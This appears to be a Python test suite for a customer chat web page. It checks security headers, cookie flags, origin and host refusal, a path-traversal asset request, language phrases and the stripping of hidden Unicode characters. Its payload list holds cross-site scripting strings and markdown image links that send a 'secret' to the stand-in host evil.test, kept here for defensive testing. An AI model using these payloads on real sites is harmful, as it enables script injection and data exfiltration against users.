"""The customer's page: its headers, its cookie, its languages; who may ask for what from where."""

from __future__ import annotations

import json
import re
from importlib.resources import files

import httpx2
import pytest
from starlette.applications import Starlette

import turnkeeper as tk
from tests.web.served import serving
from turnkeeper.testing import MessagesAPI, script
from turnkeeper.web import app
from turnkeeper.web.cleaning import clean, visible
from turnkeeper.web.guards import CSP
from turnkeeper.web.markdown import to_html
from turnkeeper.web.pages import LANGUAGES, phrases


def answering() -> Starlette:
    return app(tk.Agent(client=MessagesAPI(script("Yes."))), secret="s" * 32, title="<Nova> & Co")


def test_the_page_comes_with_its_session_and_its_headers() -> None:
    with serving(answering()) as base, httpx2.Client(base_url=base) as http:
        answer = http.get("/", params={"lang": "ar"})
        assert answer.status_code == 200
        assert answer.headers["content-security-policy"] == CSP
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "no-referrer"
        cookie = answer.headers["set-cookie"]
        assert cookie.startswith("turnkeeper_customer=")
        assert "HttpOnly" in cookie
        assert "SameSite=lax" in cookie
        assert '<html lang="ar" dir="rtl"' in answer.text
        assert "<title>&lt;Nova&gt; &amp; Co</title>" in answer.text
        assert "{{" not in answer.text
        assert "set-cookie" not in http.get("/").headers
        for name in ("chat.js", "shared.js", "chat.css", "shared.css", "icon.svg"):
            assert http.get(f"/assets/{name}").status_code == 200
        for name in ("phrases.json", "..%2f__init__.py", "no.js", "chat.html"):
            assert http.get(f"/assets/{name}").status_code == 404


def test_a_change_from_another_origin_and_a_host_that_is_not_ours_are_refused() -> None:
    with serving(answering()) as base, httpx2.Client(base_url=base) as http:
        assert http.post("/api/session").json()["error"]["code"] == "foreign_origin"
        assert http.post("/api/session", headers={"origin": "https://evil.test"}).status_code == 403
        assert http.post("/api/session", headers={"origin": base}).status_code == 200
        rebound = http.get("/", headers={"host": "evil.test"})
        assert (rebound.status_code, rebound.json()["error"]["code"]) == (421, "unknown_host")


def test_every_language_has_every_phrase() -> None:
    assert tuple(phrases()) == LANGUAGES
    assert all(set(words) == set(phrases()["en"]) for words in phrases().values())


def test_the_parts_of_the_page_are_data_of_the_package() -> None:
    kept = files("turnkeeper.web") / "assets"
    assert json.loads((kept / "phrases.json").read_text("utf-8"))["en"]["send"] == "Send"


PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='https://evil.test'></iframe>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:x)",
    "![x](https://evil.test/?q=secret)",
    "![x][1]\n\n[1]: https://evil.test/?q=secret",
    "[x](//evil.test)",
    "[x](/api/console)",
    "[x](http://evil.test)",
    "<a href='https://evil.test' onclick='alert(1)'>x</a>",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_markdown_brings_code_pictures_or_links_into_the_page(payload: str) -> None:
    html = to_html(payload)
    assert not any(tag in html for tag in ("<script", "<img", "<iframe", "<svg", "<details"))
    assert re.search("<a[^>]*href=", html) is None


def test_a_sound_link_is_kept_and_says_that_it_leads_away() -> None:
    assert to_html("[shop](https://example.org)") == (
        '<p><a href="https://example.org" rel="noopener noreferrer nofollow ugc">shop</a></p>\n'
    )


def test_hidden_characters_are_taken_out_for_customers_and_written_out_for_staff() -> None:
    spoof = "pay \u202etxt.exe\u202c \u200bnow\U000e0041"
    assert clean(spoof) == "pay txt.exe now"
    assert visible(spoof) == "pay ⟨U+202E⟩txt.exe⟨U+202C⟩ ⟨U+200B⟩now⟨U+E0041⟩"
    family = "👩\u200d👩\u200d👧 می\u200cخواهم ❤\ufe0f"
    assert clean(family) == visible(family) == family
    assert clean("a\u200db") == "ab"
